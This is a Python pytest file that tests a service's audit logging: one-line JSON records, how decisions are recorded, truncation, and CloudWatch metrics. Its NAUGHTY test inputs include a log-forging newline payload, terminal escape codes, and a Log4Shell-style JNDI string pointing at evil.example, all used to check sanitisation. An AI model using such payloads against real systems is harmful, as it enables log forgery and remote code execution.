"""One record a request, on one line, with nothing secret; and metrics in CloudWatch's embedded format."""

import json
import time
from typing import Any

import pytest

from studio_gate import audit
from studio_gate.authorise import Decision
from studio_gate.config import Config
from studio_gate.errors import GateError, Problem
from tests.studio_gate.builders import caller, target


def written(capsys: pytest.CaptureFixture[str], record: audit.Record) -> tuple[dict[str, Any], dict[str, Any]]:
    """Write a record; read it back, and the whole line with the metrics."""
    audit.write(record, 403, 0.0125)
    line = json.loads(capsys.readouterr().out)
    return line["audit"], line


def test_a_new_record_says_when(capsys: pytest.CaptureFixture[str]) -> None:
    record, _ = written(capsys, audit.Record("request-1"))
    assert record["request_id"] == "request-1"
    assert record["time"].endswith("Z")
    assert (record["status"], record["duration_ms"], record["audit_version"]) == (403, 12, 1)


@pytest.mark.parametrize("order", [1, -1])
def test_of_several_decisions_the_permit_is_recorded(
    capsys: pytest.CaptureFixture[str], config: Config, order: int
) -> None:
    permit = Decision(caller(), target(config, expires_in=7), allowed=True, reason="permitted", policies=("one",))
    admin = target(config, profile="alice-admin")
    deny = Decision(caller(), admin, allowed=False, reason="forbidden", policies=("two",), errors=("three",))
    record = audit.Record("request-1")
    record.decided([deny, permit][::order])
    read, _ = written(capsys, record)
    named = {"destination": "research", "profile": "alice", "expires_in": 7, "session_expires_in": 28800}
    assert {key: read[key] for key in named} == named
    assert (read["decision"], read["policies"], read["policy_errors"]) == ("permitted", ["one"], [])


def test_of_several_refusals_the_first_is_recorded(capsys: pytest.CaptureFixture[str], config: Config) -> None:
    refusals = [
        Decision(caller(), target(config, profile=name), allowed=False, reason=name, policies=(name,), errors=(name,))
        for name in ("first", "second")
    ]
    record = audit.Record("request-1")
    record.decided(refusals)
    read, _ = written(capsys, record)
    assert [read[key] for key in ("profile", "decision")] == ["first", "first"]
    assert [read[key] for key in ("policies", "policy_errors")] == [["first"], ["first"]]


NAUGHTY = {
    "a newline": 'alice\n{"audit": {"outcome": "minted"}}',
    "a carriage return": "alice\rbob",
    "a line separator": "alice\u2028bob",
    "an escape sequence": "\x1b[2Jalice",
    "a NUL": "alice\0",
    "text from right to left": "\u202ealice",
    "half a surrogate pair": "\ud800alice",
    "a template": "${jndi:ldap://evil.example/a} {0} %s %n",
}


@pytest.mark.parametrize("text", NAUGHTY.values(), ids=NAUGHTY.keys())
def test_whatever_is_recorded_stays_on_one_line_of_ascii(capsys: pytest.CaptureFixture[str], text: str) -> None:
    record = audit.Record("request-1")
    record.profile = record.signer = text
    record.failed(GateError(Problem.REFUSED, text))
    audit.write(record, 403, 0)
    out = capsys.readouterr().out
    assert out.isascii()
    assert len(out.splitlines()) == 1
    assert json.loads(out)["audit"]["profile"] == text


def test_long_texts_are_cut(capsys: pytest.CaptureFixture[str]) -> None:
    record = audit.Record("request-1")
    record.destination = "d" * 10_000
    record.policy_errors = ["e" * 10_000]
    read, _ = written(capsys, record)
    assert (len(read["destination"]), len(read["policy_errors"][0])) == (512, 512)


@pytest.mark.parametrize(("outcome", "minted"), [("minted", 1), ("refused", 0), ("answered", 0)])
def test_metrics_count_requests_and_mints_by_gate_and_outcome(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, outcome: str, minted: int
) -> None:
    monkeypatch.setenv("AWS_LAMBDA_FUNCTION_NAME", "front-door")
    record = audit.Record("request-1")
    record.outcome = outcome
    record.url_sha256 = "digest" if minted else None
    _, metrics = written(capsys, record)
    (directive,) = metrics["_aws"]["CloudWatchMetrics"]
    units = {"Requests": "Count", "Minted": "Count", "Stale": "Count", "Duration": "Milliseconds"}
    assert {one["Name"]: one["Unit"] for one in directive["Metrics"]} == units
    assert (directive["Namespace"], directive["Dimensions"]) == ("StudioGate", [["gate"], ["gate", "outcome"]])
    assert (metrics["gate"], metrics["outcome"]) == ("front-door", outcome)
    assert (metrics["Requests"], metrics["Minted"], metrics["Duration"]) == (1, minted, 12)
    # In milliseconds: CloudWatch drops what is more than two weeks old or two hours ahead.
    assert abs(metrics["_aws"]["Timestamp"] / 1000 - time.time()) < 60


def test_metrics_have_a_value_for_every_dimension_outside_lambda_too(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AWS_LAMBDA_FUNCTION_NAME", raising=False)
    _, metrics = written(capsys, audit.Record("request-1"))
    (directive,) = metrics["_aws"]["CloudWatchMetrics"]
    # CloudWatch drops what has an empty dimension.
    assert all(metrics[name] for dimensions in directive["Dimensions"] for name in dimensions)
